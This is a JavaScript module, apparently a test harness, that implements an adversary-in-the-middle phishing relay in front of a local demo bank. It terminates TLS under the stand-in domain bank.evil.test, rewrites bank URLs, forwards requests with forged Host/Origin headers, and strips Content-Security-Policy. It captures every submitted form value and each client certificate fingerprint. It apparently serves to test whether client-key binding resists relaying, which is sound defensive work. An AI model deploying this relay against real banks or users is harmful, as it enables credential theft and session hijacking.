// relay stands between a customer and the bank: it ends TLS with a certificate of its own, asks for the customer's, and passes every
// request on to the bank's real hosts under the real names, with Host, Origin and cookies as the bank wants them. What it cannot pass
// on is the customer's key.
import https from "node:https";
import { readFileSync } from "node:fs";
import { newKey, openssl } from "./keys.mjs";

const kName = "bank.evil.test";

export class Relay {
  // start listens on a free port; the bank's host LABEL.d1.localhost is LABEL.d1.bank.evil.test here.
  // `keeps` is a path whose forms it reads and does not pass on.
  static async start(demo, institution, { keeps } = {}) {
    const relay = new Relay();
    relay.demo = demo;
    relay.keeps = keeps;
    relay.shown = []; // certificates that customers proved to have
    relay.secrets = []; // what was typed into forms
    const key = await newKey();
    const { out: cert } = await openssl(["req", "-new", "-x509", "-key", key, "-subj", `/CN=${kName}`, "-days", "1",
                                         "-addext", `subjectAltName=DNS:*.${kName},DNS:*.${institution}.${kName}`]);
    relay.agent = new https.Agent({ keepAlive: true, ca: demo.trust });
    relay.server = https.createServer({ key: readFileSync(key), cert, requestCert: true, rejectUnauthorized: false },
                                      (request, response) => relay.#pass(request, response));
    await new Promise((listening) => relay.server.listen(0, "127.0.0.1", listening));
    relay.port = relay.server.address().port;
    relay.real = new URL(demo.institution(institution).portal);
    relay.ports = new Map(); // host of the bank → its port
    relay.ports.set(relay.real.hostname, relay.real.port);
    relay.portal = relay.#mine(relay.real.href);
    return relay;
  }

  // asDemo is the demo as a customer sees it who was led here.
  asDemo() {
    return { path: (name) => this.demo.path(name), trust: this.demo.trust };
  }

  close() {
    this.agent.destroy();
    this.server.closeAllConnections();
    return new Promise((closed) => this.server.close(closed));
  }

  // mine turns every address of the bank's in a text into one of the relay's.
  #mine(text) {
    return text.replace(/https:\/\/((?:[a-z0-9-]+\.)*localhost):(\d+)/g, (all, host, port) => {
      this.ports.set(host, port);
      return `https://${host.replace(/localhost$/, kName)}:${this.port}`;
    });
  }

  #theirs(text) {
    return text.replace(new RegExp(`https://((?:[a-z0-9-]+\\.)*)${kName}:\\d+`, "g"), (all, labels) => {
      const host = `${labels}localhost`;
      return `https://${host}:${this.ports.get(host) ?? this.real.port}`;
    });
  }

  async #pass(request, response) {
    const certificate = request.socket.getPeerCertificate();
    if (certificate?.raw) this.shown.push(certificate.fingerprint256);
    const parts = [];
    for await (const part of request) parts.push(part);
    const body = Buffer.concat(parts);
    for (const value of new URLSearchParams(body.toString()).values()) this.secrets.push(value);
    if (request.method === "POST" && request.url === this.keeps) return response.writeHead(503).end();
    const host = request.headers.host.split(":")[0].replace(kName, "localhost");
    const port = this.ports.get(host) ?? this.real.port;
    const headers = { ...request.headers, host: `${host}:${port}` };
    for (const name of ["origin", "referer"]) if (headers[name]) headers[name] = this.#theirs(headers[name]);
    const onward = https.request({ agent: this.agent, host: "127.0.0.1", port, servername: host, path: request.url, method: request.method, headers },
                                 async (answer) => {
      const got = [];
      for await (const part of answer) got.push(part);
      const fields = { ...answer.headers };
      delete fields["content-length"];
      if (fields.location) fields.location = this.#mine(fields.location);
      delete fields["content-security-policy"];
      const text = /^text\//.test(fields["content-type"] ?? "");
      response.writeHead(answer.statusCode, fields);
      response.end(text ? this.#mine(Buffer.concat(got).toString("utf8")) : Buffer.concat(got));
    });
    onward.on("error", () => response.destroy());
    onward.end(body);
  }
}
